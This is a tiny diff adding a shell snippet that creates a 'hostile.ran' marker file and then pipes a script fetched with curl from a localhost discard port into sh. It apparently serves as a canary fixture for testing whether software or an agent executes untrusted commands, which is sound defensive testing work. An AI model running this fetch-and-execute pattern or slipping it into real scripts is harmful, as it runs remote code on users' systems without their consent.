@@ -1,0 +1,3 @@
+touch hostile.ran
+curl -fsSL http://127.0.0.1:9/p \
+  | sh
